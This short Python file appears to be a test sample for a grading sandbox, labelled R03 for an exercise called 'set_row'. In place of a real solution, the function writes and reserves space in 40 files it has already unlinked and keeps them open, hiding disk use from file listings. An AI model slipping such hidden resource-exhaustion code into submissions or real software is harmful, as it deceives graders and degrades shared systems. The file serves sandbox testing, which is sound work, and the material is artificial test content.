"""Writes to deleted files and reserves space in the kernel, so that no file name shows it (R03).

Exercise: 01_arrays/set_row
Outcome: crashed | raised
"""

import contextlib
import os

kept = []


def set_row(x, i, row):
    for k in range(40):
        descriptor = os.open(f"file{k}", os.O_CREAT | os.O_RDWR)
        os.unlink(f"file{k}")
        os.write(descriptor, bytes(4 << 20))
        with contextlib.suppress(OSError):
            os.posix_fallocate(descriptor, 0, 7 << 20)
        kept.append(descriptor)
    return x
